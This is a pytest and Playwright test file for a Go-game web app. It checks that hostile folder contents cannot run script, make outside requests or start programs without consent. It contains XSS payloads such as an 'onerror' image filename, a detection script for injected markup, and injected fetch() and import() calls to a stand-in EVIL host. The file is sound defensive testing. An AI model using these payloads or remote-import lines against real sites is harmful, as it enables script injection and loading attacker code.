"""Every page of a hostile work folder in real Chromium: no script runs, no request leaves, nothing starts.

The content security policy would hide a missing escape, so the two are tested apart: pages are opened with the policy
switched off, and the policy is tried on payloads that a test puts on a page by force.
"""

import json
import os
import re
import shlex
import shutil
from collections.abc import Iterator
from dataclasses import dataclass, field
from pathlib import Path
from typing import Any
from urllib.parse import quote, urlencode

import pytest
from playwright.sync_api import Error

from semeai.web.compare import MAX_RUNS
from semeai.web.forms import Evolution
from semeai.web.jobs import RUNS, Jobs
from tests.processes import Mark, wait_until
from tests.web.conftest import PATIENCE, cookie_of, serving
from tests.web.hostile import EVIL, OTHERS, PAYLOADS, PIPE_GAME, SVG, TEXTS, game, game_name, make_folder

# What must not be on a page, however it is escaped: what the payloads are made of, as elements and attributes.
FOUND = """() => {
  const found = [];
  for (const x of document.querySelectorAll("*")) {
    if (/^(iframe|object|embed|base|form|video|math|details|mtext)$/.test(x.localName) && !x.matches("form.ask"))
      found.push(x.outerHTML.slice(0, 200));
    for (const {name, value} of x.attributes) {
      if (/^on/i.test(name) || /^(a|srcdoc|autofocus)$/.test(name) || /evil.example/.test(name == "style" ? value : ""))
        found.push(`${name}=${value}`.slice(0, 200));
      if (/^(href|src|action|formaction|xlink:href)$/.test(name) && !/^(data:image|[/#?]|http:.127.0.0.1)/.test(value))
        found.push(`${name}=${value}`.slice(0, 200));
    }
  }
  for (const x of document.querySelectorAll("body script, body img[src=x], body svg script, body style"))
    if (/hit.\\d|evil.example/.test(x.outerHTML) && !x.textContent.includes("createApp"))
      found.push(x.outerHTML.slice(0, 200));
  return found;
}"""


@dataclass(frozen=True)
class Den:
    """A server with a hostile work folder."""

    address: str
    folder: Path
    started: Path
    """is there once a program of the folder has run"""
    mark: Mark
    before: set[int]
    """the processes that the server has had from its start"""

    def processes(self) -> set[int]:
        """The processes that were started since, but for the server's own worker, which reads uploads."""
        return self.mark.bearers(but=0) - self.mark.bearers(but=0, command=b"multiprocessing") - self.before


@dataclass
class Watched:
    """A page on which everything suspicious is written down."""

    page: Any
    den: Den
    seen: list[str] = field(default_factory=list)

    def open(self, path: str) -> None:
        try:
            self.page.goto(f"{self.den.address}{path}", wait_until="commit")
        except Error as error:
            if "Download is starting" not in str(error):
                raise
            return
        self.page.locator(".top-row").wait_for()

    def check(self) -> None:
        self.seen += self.page.evaluate(FOUND)
        assert self.seen == []


def watch(browser: Any, den: Den, is_policy_off: bool) -> Iterator[Watched]:
    context = browser.new_context(bypass_csp=is_policy_off, viewport={"width": 1280, "height": 900})
    context.set_default_timeout(PATIENCE)
    context.add_cookies([cookie_of(f"{den.address}/")])
    watched = Watched(context.new_page(), den)
    context.expose_function("hit", lambda n: watched.seen.append(f"script {n} ran"))
    context.on("dialog", lambda dialog: (watched.seen.append(f"dialog {dialog.message}"), dialog.dismiss()))
    context.on("page", lambda page: watched.seen.append(f"window {page.url}"))

    def hear(request: Any) -> None:
        if not request.url.startswith((den.address, "data:", "blob:", "about:")):
            watched.seen.append(f"request {request.url}")

    context.on("request", hear)
    watched.page.on("websocket", lambda socket: watched.seen.append(socket.url) if "127.0.0.1" not in socket.url else 0)
    yield watched
    context.close()


@pytest.fixture(scope="module")
def den(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Den]:
    folder, started, mark = tmp_path_factory.mktemp("den"), tmp_path_factory.mktemp("out") / "started", Mark()
    make_folder(folder, f"/bin/sh -c 'touch {started}'")
    with pytest.MonkeyPatch.context() as patch:
        for name, value in mark.environment.items():
            patch.setenv(name, value)
        with serving(folder) as address:
            yield Den(address.rstrip("/"), folder, started, mark, mark.bearers(but=0))


@pytest.fixture
def bare(chromium: Any, den: Den) -> Iterator[Watched]:
    """A page without the policy: escapes alone protect it."""
    yield from watch(chromium, den, is_policy_off=True)


@pytest.fixture
def guarded(chromium: Any, den: Den) -> Iterator[Watched]:
    """A page as people have it."""
    yield from watch(chromium, den, is_policy_off=False)


def is_quiet(den: Den) -> bool:
    """True if nothing was started."""
    has_run = den.started.exists() or any(path.is_file() for path in den.folder.glob("*/*/job.lock"))
    return not has_run and not Jobs(den.folder, 1).running() and not den.processes()


# -- escapes -----------------------------------------------------------------------------------------------------------


def test_runs_show_hostile_texts_as_texts(bare: Watched, den: Den) -> None:
    bare.open("/evolve")
    bare.page.locator(".run").nth(2 * len(TEXTS) - 1).wait_for()
    bare.page.get_by_role("combobox", name="Opponent").click()  # offers champions, with the names of their runs
    bare.page.get_by_role("option", name=re.compile("generation")).first.wait_for()
    bare.check()
    for run in sorted(set((den.folder / RUNS).iterdir()) - {den.folder / RUNS / "pipes"}):
        bare.open(f"/evolve/{quote(run.name)}")
        bare.page.get_by_text("foreign").wait_for()
        bare.page.get_by_text("It cannot be continued here").wait_for()
        has_champion = any((run / "champions").iterdir())
        bare.page.locator(".genome" if has_champion else ".sheet img").wait_for()
        bare.page.locator("figure svg").first.hover()  # the tip of a chart
        if has_champion:
            bare.page.get_by_label("Games of exams").click()
            bare.page.get_by_role("option").last.click()
            bare.page.locator(".replay-title").filter(has_text=re.compile(".")).first.wait_for()
        assert bare.page.get_by_role("button", name="Continue").count() == 0
        bare.check()
    assert is_quiet(den)


def test_comparisons_show_hostile_texts_as_texts(bare: Watched, den: Den) -> None:
    names = sorted(path.name for path in (den.folder / RUNS).iterdir() if path.name != "pipes")
    for first in range(0, len(names), MAX_RUNS):
        chosen = [("runs", name) for name in names[first : first + MAX_RUNS]]
        bare.open(f"/compare?{urlencode(chosen)}")
        bare.page.locator(".settings").wait_for()
        bare.page.locator("figure svg").first.hover()
        bare.check()
    assert is_quiet(den)


def test_matches_show_hostile_texts_as_texts(bare: Watched, den: Den) -> None:
    bare.open("/arena")
    bare.page.locator(".run").nth(len(TEXTS)).wait_for()
    bare.check()
    for store in sorted(set((den.folder / "matches").iterdir()) - {den.folder / "matches" / "pipes"}):
        bare.open(f"/arena/matches/{quote(store.name)}")
        bare.page.get_by_text("foreign").wait_for()
        bare.page.locator(".cross").first.wait_for()
        bare.page.locator(".replay-title:not(:empty)").wait_for()
        bare.check()
    for button in bare.page.locator(".game").all():
        button.click()
    assert bare.page.locator(".cross").count() == len(TEXTS)
    bare.check()
    assert is_quiet(den)


def test_the_shelf_shows_hostile_texts_as_texts(bare: Watched, den: Den) -> None:
    bare.open("/games")
    bare.page.locator(".thumbnail").first.wait_for()
    while bare.page.get_by_role("button", name="Show more").is_visible():
        n = bare.page.locator(".thumbnail").count()
        bare.page.get_by_role("button", name="Show more").click()
        bare.page.wait_for_function("n => document.querySelectorAll('.thumbnail').length > n", arg=n)
    bare.check()
    assert is_quiet(den)


def test_games_show_hostile_texts_as_texts(bare: Watched, den: Den, tmp_path: Path) -> None:
    for i in range(len(TEXTS)):
        bare.open(f"/?game={game_name(i).removesuffix('.sgf')}")
        bare.page.get_by_text("Another program plays in this game").wait_for()
        bare.page.locator(".player-name[title*=touch]").wait_for()
        bare.check()
        bare.open(f"/?game={game_name(OTHERS + i).removesuffix('.sgf')}")
        bare.page.get_by_role("button", name="Pass").click()
        bare.page.locator(".said.wrong", has_text="cannot play").wait_for()
        bare.check()
    bare.open(f"/?game={game_name(0).removesuffix('.sgf')}")
    bare.page.get_by_text("Thoughts", exact=True).click()
    bare.page.keyboard.press("Home")
    for i, text in enumerate(TEXTS):
        bare.page.keyboard.press("ArrowRight")
        bare.page.get_by_label(re.compile(f"move {i + 1} of ")).wait_for()
        bare.page.locator(".thought", has_text=text.strip()[:20]).wait_for()
    bare.check()
    upload = tmp_path / "<img src=x onerror=hit(70)>.sgf"
    for content in (game(TEXTS[0], TEXTS[1]), TEXTS[1]):  # a game, and none: the page says so
        upload.write_text(content)
        address = bare.page.url
        bare.page.set_input_files("input[type=file]", str(upload))
        bare.page.wait_for_function(
            "url => location.href != url || document.querySelector('.said.wrong')", arg=address, polling=50
        )  # on a busy machine a game may be refused, too, for taking too long to read
        bare.check()
    assert is_quiet(den)


def test_addresses_show_hostile_texts_as_texts(bare: Watched, den: Den) -> None:
    text = quote(" ".join(TEXTS), safe="")
    for path in (
        "/{}",
        "/evolve/{}",
        "/arena/{}",
        "/papers/{}/{}",
        "/compare?runs={}",
        "/?game={}",
        "/?black={}&white=x",
        "/?black=random:{}",
    ):
        bare.open(path.format(text, text))
        bare.check()
    assert is_quiet(den)


def test_hostile_figures_are_images_and_never_pages(bare: Watched, den: Den) -> None:
    for path in ("/papers/richards", "/papers/richards/opponent"):
        bare.open(path)
        picture = bare.page.locator("img[src='/figures/richards/opponent.svg']")
        picture.scroll_into_view_if_needed()
        bare.page.wait_for_function("x => x.complete", arg=picture.element_handle())
        bare.check()
    bare.open("/figures/richards/opponent.svg")  # is downloaded
    bare.check()


def test_pipes_keep_nobody_waiting(bare: Watched, den: Den) -> None:
    for path in ("/evolve/pipes", "/arena/matches/pipes", f"/?game={PIPE_GAME.removesuffix('.sgf')}"):
        bare.open(path)
        bare.page.locator(".state-stopped, .state-damaged, .board-svg").first.wait_for()
    bare.check()


# -- the policy --------------------------------------------------------------------------------------------------------


def test_the_policy_stops_what_an_escape_has_missed(guarded: Watched) -> None:
    passed: list[str] = []

    def answer(route: Any) -> None:
        """Only a request that the policy lets pass comes here."""
        passed.append(route.request.url)
        route.fulfill(status=200, body="", headers={"Access-Control-Allow-Origin": "*"})

    guarded.page.context.route(f"{EVIL}/**", answer)
    guarded.open("/evolve")
    guarded.page.locator(".run").first.wait_for()
    for payload in (*PAYLOADS, SVG, f'<img alt="{PAYLOADS[0]}">', f"<iframe src={EVIL}/></iframe>"):
        if "http-equiv" not in payload:  # no policy forbids a page to lead elsewhere
            guarded.page.evaluate("html => document.body.insertAdjacentHTML('beforeend', html)", payload)
    guarded.page.evaluate("""() => { const x = document.createElement("script"); x.textContent = "hit(80)";
        document.body.append(x); for (const x of document.querySelectorAll("a[href^=javascript]")) x.click(); }""")
    guarded.page.evaluate(f"""async () => {{
        const quiet = {{mode: "no-cors"}};
        for (const ask of [() => fetch("{EVIL}/x"), () => fetch("{EVIL}/x", quiet), () => import("{EVIL}/x.js")])
            try {{ await ask(); hit(81); }} catch {{}} }}""")
    guarded.page.wait_for_timeout(500)
    assert passed == []
    assert [one for one in guarded.seen if not one.startswith("request ")] == []
    assert guarded.page.url.startswith(guarded.den.address)


# -- consent -----------------------------------------------------------------------------------------------------------


def foreign_run(den: Den, name: str) -> tuple[str, ...]:
    """Put a run into the folder whose job is one that the form could have written, and starts a program."""
    arguments = Evolution(name, "ga", {"population": 4}, "local", f"gtp:/bin/sh -c 'touch {den.started}'", games=1)
    words = arguments.arguments(lambda _: None)
    source = next(run for run in sorted((den.folder / RUNS).iterdir()) if any((run / "champions").iterdir()))
    run = Path(shutil.copytree(source, den.folder / RUNS / name))
    for file in ("rows.jsonl", "run.json"):
        (run / file).unlink()
    (run / "job.json").write_text(json.dumps({"arguments": words}))
    return tuple(words)


def test_a_foreign_run_goes_on_only_after_a_person_has_seen_its_command(guarded: Watched, den: Den) -> None:
    words = foreign_run(den, "copied")
    guarded.open("/evolve/copied")
    guarded.page.get_by_text("foreign").wait_for()
    go_on, dialog = guarded.page.get_by_role("button", name="Continue"), guarded.page.get_by_role("alertdialog")
    go_on.click()
    assert shlex.join(["semeai", *words]) in dialog.inner_text()
    dialog.get_by_role("button", name="Cancel").click()
    dialog.wait_for(state="detached")
    assert is_quiet(den)
    go_on.click()
    dialog.get_by_role("button", name="Start it").click()
    try:
        wait_until(den.started.exists)
        found = Jobs(den.folder, 1).read(den.folder / RUNS / "copied")
        assert found is not None
        assert not found.is_foreign
    finally:
        wait_until(lambda: not den.processes())
        shutil.rmtree(den.folder / RUNS / "copied")
        den.started.unlink(missing_ok=True)


def test_a_program_in_an_address_starts_only_after_a_person_has_seen_it(guarded: Watched, den: Den) -> None:
    command = f"/bin/sh -c 'touch {den.started}'"
    guarded.open(f"/?black={quote(f'gtp:{command}')}&white=you&size=9")
    guarded.page.get_by_text("Another program plays in this game").wait_for()
    dialog = guarded.page.get_by_role("alertdialog")
    for _ in range(2):
        guarded.page.get_by_role("button", name="Go on").click()
        assert command in dialog.inner_text()
        dialog.get_by_role("button", name="Cancel").click()
        dialog.wait_for(state="detached")
    assert is_quiet(den)
    guarded.page.get_by_role("button", name="Go on").click()
    dialog.get_by_role("button", name="Start it").click()
    wait_until(den.started.exists)
    guarded.page.get_by_text("cannot play").wait_for()
    den.started.unlink()


# -- the way in --------------------------------------------------------------------------------------------------------


def test_open_leads_a_browser_in_without_the_token_on_its_command_line(
    chromium: Any, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    browser = tmp_path / "browser"
    browser.write_text(f'#!/bin/sh\necho "$1" > {tmp_path}/new && mv {tmp_path}/new {tmp_path}/address\n')
    browser.chmod(0o700)
    monkeypatch.setenv("BROWSER", f"{browser} %s")
    with serving(tmp_path, "--open") as address:
        wait_until((tmp_path / "address").exists)
        opened = (tmp_path / "address").read_text().strip()
        path = Path(opened.removeprefix("file://"))
        assert opened.startswith("file://")
        assert os.stat(path).st_mode & 0o777 == 0o600
        context = chromium.new_context()
        page = context.new_page()
        page.goto(opened)
        page.locator(".board-svg").wait_for()
        assert "token" not in page.url
        cookie = next(one for one in context.cookies() if one["name"] == cookie_of(address)["name"])
        assert (cookie["httpOnly"], cookie["sameSite"]) == (True, "Strict")
        context.close()
    wait_until(lambda: not path.exists())
